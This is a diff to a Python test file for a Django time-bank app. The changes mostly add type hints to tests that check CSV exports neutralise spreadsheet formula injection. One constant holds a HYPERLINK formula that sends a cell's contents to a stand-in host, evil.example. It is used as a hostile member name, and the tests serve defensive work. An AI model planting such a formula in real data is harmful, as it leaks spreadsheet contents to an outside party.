@@ -9,6 +9,7 @@ import io
 import re
 import zipfile
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 import time_machine
@@ -19,7 +20,17 @@ from core.listings.services import listing_create
 from core.members.models import Member, Role
 from kernel.csvfile import FORMULA_STARTS, csv_text
 from ledger.services import gift_grant
+from tests.conftest import streamed
 from tests.core.exchanges.conftest import soon
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    from django.test import Client
+    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse
+
+    from tenants.models import Network
+    from tests.conftest import NetworkClient
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click for your hours")'
@@ -39,7 +50,7 @@ def _live_formulas(text: str) -> list[str]:
     ]
 
 
-def test_the_writer_neutralises_every_formula_start_and_leaves_numbers_alone():
+def test_the_writer_neutralises_every_formula_start_and_leaves_numbers_alone() -> None:
     hostile = [f"{start}1+1" for start in FORMULA_STARTS]
     text = csv_text([hostile, [-30, 2.5, "plain", ""]])
     assert _live_formulas(text) == []
@@ -48,7 +59,9 @@ def test_the_writer_neutralises_every_formula_start_and_leaves_numbers_alone():
 
 
 @pytest.fixture
-def hostile_exchange(network_a, make_member):
+def hostile_exchange(
+    network_a: Network, make_member: Callable[..., Member]
+) -> tuple[Member, Member, Member]:
     """A completed exchange between a member whose name is a formula and one whose
     listing's title is one."""
     mallory = make_member(network_a, full_name=HOSTILE_NAME)
@@ -76,14 +89,16 @@ def hostile_exchange(network_a, make_member):
     return mallory, bob, olive
 
 
-def _body(response) -> str:
+def _body(response: TestResponse) -> str:
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    content = b"".join(response.streaming_content) if response.streaming else response.content
+    content = streamed(response) if response.streaming else response.content
     return content.decode()
 
 
-def test_every_csv_served_in_a_network_neutralises_formulas(network_a, hostile_exchange, client_a):
+def test_every_csv_served_in_a_network_neutralises_formulas(
+    network_a: Network, hostile_exchange: tuple[Member, Member, Member], client_a: NetworkClient
+) -> None:
     _, bob, olive = hostile_exchange
     client_a.force_login(bob)
     statement = _body(client_a.get("/ledger/statement.csv"))
@@ -100,7 +115,9 @@ def test_every_csv_served_in_a_network_neutralises_formulas(network_a, hostile_e
     }
 
 
-def test_the_network_export_neutralises_formulas(network_a, hostile_exchange, public_client):
+def test_the_network_export_neutralises_formulas(
+    network_a: Network, hostile_exchange: tuple[Member, Member, Member], public_client: Client
+) -> None:
     staff = Member.objects.create_user(
         "staff@hexitime.example", "a long staff passphrase", full_name="Sam Staff", is_staff=True
     )
@@ -112,7 +129,7 @@ def test_the_network_export_neutralises_formulas(network_a, hostile_exchange, pu
     assert {n: _live_formulas(text) for n, text in tables.items()} == {n: [] for n in tables}
 
 
-def test_csv_is_written_only_by_the_one_writer():
+def test_csv_is_written_only_by_the_one_writer() -> None:
     """A new export that wrote CSV itself would skip the neutralising: only kernel.csvfile
     may use the standard library's writer."""
     sources = [
@@ -129,8 +146,11 @@ def test_csv_is_written_only_by_the_one_writer():
 
 
 def test_a_member_of_another_network_gets_no_export(
-    network_b, hostile_exchange, make_member, client_b
-):
+    network_b: Network,
+    hostile_exchange: tuple[Member, Member, Member],
+    make_member: Callable[..., Member],
+    client_b: NetworkClient,
+) -> None:
     stranger = make_member(network_b, role=Role.ORGANISER)
     client_b.force_login(stranger)
     exchanges = _body(client_b.get("/exchanges/organiser/exchanges.csv"))
